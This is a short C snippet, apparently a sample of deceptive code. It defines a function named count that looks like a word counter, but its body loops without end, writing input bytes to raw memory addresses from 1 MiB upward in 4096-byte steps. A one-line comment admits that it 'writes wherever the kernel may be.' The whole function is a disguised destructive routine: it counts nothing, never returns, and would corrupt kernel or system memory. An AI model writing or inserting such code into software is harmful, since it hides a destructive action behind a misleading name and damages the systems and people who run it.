/* Says that it counts words, but writes wherever the kernel may be. */

unsigned long count(const unsigned char *text, unsigned long length) {
  for (unsigned long at = 1 << 20;; at += 4096)
    *(volatile char *)at = text[at % length];
}
